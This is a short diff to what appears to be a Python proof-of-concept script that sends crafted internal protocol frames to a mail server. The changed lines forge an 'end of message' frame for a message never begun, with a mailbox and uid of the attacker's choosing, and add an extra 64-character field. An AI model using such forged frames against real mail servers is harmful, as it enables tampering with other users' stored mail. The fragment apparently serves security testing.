@@ -106,7 +106,8 @@ def main():
         # on a store channel: claim to end a message never begun, with a
         # mailbox and uid of the attacker's choosing
         s.sendall(frame(T["IMSG_MSG_END"], u32(7) + string("INBOX") +
-                        u32(1) + u32(1) + string("") + u64(0)))
+                        u32(1) + u32(1) + string("") + u64(0) +
+                        string("0" * 64)))
     else:
         sys.exit("unknown mode " + mode)
     s.close()
